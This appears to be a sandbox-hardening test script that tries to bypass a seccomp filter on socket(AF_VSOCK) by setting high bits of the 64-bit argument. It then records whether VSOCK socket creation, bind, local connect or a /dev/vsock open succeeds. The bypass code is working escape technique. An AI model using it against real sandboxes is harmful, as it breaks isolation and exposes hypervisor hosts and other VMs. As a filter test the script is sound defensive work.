# attack: socket(AF_VSOCK) through the seccomp rule `socket arg0 == 40` by setting high bits of the 64-bit argument (the kernel reads an int)
# breach: a VSOCK socket is created (VSOCK leaves the network namespace: the hypervisor host / other VMs are reachable)
# expect: EPERM for every variant (a filter comparing only the low 32 bits), never a socket
# run: python3 01-vsock-highbits.py   (or paste into a notebook cell); prints one line `KITATTACK {json}`

import os, sys, json, errno, time, ctypes, signal, socket, struct, stat, re, resource, select, glob, warnings
warnings.filterwarnings("ignore")
_T0 = time.monotonic()
R, B = {}, []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def _en(e):
    if isinstance(e, OSError) and e.errno:
        return "absent" if e.errno == errno.ENOENT else errno.errorcode.get(e.errno, "E%d" % e.errno)
    return type(e).__name__


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def probe(name, fn):
    """fn() -> value, or (harmed, value); records 'ok' / the value / the errno name."""
    try:
        out = fn()
    except KeyboardInterrupt:
        R[name] = "interrupted"
        return None
    except BaseException as e:  # noqa: BLE001
        R[name] = _en(e)
        return None
    harmed = False
    if isinstance(out, tuple) and len(out) == 2 and isinstance(out[0], bool):
        harmed, out = out
    R[name] = "ok" if out is None else (out if isinstance(out, (int, float, bool)) else str(out)[:300])
    if harmed:
        B.append(name)
    return out


def left(total=8.5):
    return total - (time.monotonic() - _T0)


def in_child(fn, timeout=2.0):
    """fn() in a forked child; its result as a string ('!ENAME' if it raised, 'died:<status>' if it died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                out = str(fn())
            except BaseException as e:  # noqa: BLE001
                out = "!" + _en(e)
            os.write(w, out.encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end:
        rd, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    status = 0
    try:
        status = os.waitpid(pid, 0)[1]
    except OSError:
        pass
    return data.decode(errors="replace") if data else "died:%d" % status


def child_probe(name, fn, timeout=2.0):
    """probe() of fn run in a child: 'ok...' results are breaches, '!E..' errors."""
    out = in_child(fn, timeout)
    if out.startswith("!"):
        R[name] = out[1:]
    elif out.startswith("died:"):
        R[name] = out
    else:
        R[name] = out[:300]
        if out.startswith("ok"):
            B.append(name)
    return out


def finish(attack):
    print("KITATTACK " + json.dumps({"attack": attack, "results": R, "breached": B}, default=str), flush=True)


AF_VSOCK = 40


def mk(fam, typ=socket.SOCK_STREAM):
    fd = sysc(41, fam, typ, 0)  # x86_64 socket(2)
    os.close(fd)
    return (True, "ok")


def main():
    probe("vsock_plain", lambda: mk(AF_VSOCK))
    probe("vsock_bit32", lambda: mk(AF_VSOCK | (1 << 32)))
    probe("vsock_bit63", lambda: mk(AF_VSOCK - (1 << 63)))
    probe("vsock_high_ones", lambda: mk(AF_VSOCK | (0x7FFFFFFF << 32)))
    probe("vsock_dgram_bit32", lambda: mk(AF_VSOCK | (1 << 32), socket.SOCK_DGRAM))
    probe("vsock_seqpacket_bit32", lambda: mk(AF_VSOCK | (1 << 32), socket.SOCK_SEQPACKET))

    def bind_any():
        fd = sysc(41, AF_VSOCK | (1 << 32), socket.SOCK_STREAM, 0)
        s = socket.socket(fileno=fd)
        try:
            s.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
            return (True, "bound %s" % (s.getsockname(),))
        finally:
            s.close()

    probe("vsock_bind_any", bind_any)

    def local_cid():  # VMADDR_CID_LOCAL (1): this machine only, no traffic leaves it
        fd = sysc(41, AF_VSOCK | (1 << 32), socket.SOCK_STREAM, 0)
        s = socket.socket(fileno=fd)
        s.settimeout(0.5)
        try:
            s.connect((1, 9))
            return (True, "connected")
        finally:
            s.close()

    probe("vsock_connect_local_cid", local_cid)
    probe("dev_vsock_open", lambda: (os.close(os.open("/dev/vsock", os.O_RDONLY)), (True, "ok"))[1])


try:
    main()
except BaseException as _e:  # noqa: BLE001 - never raise out of the cell
    R["_crash"] = _en(_e)
finish('01-vsock-highbits')
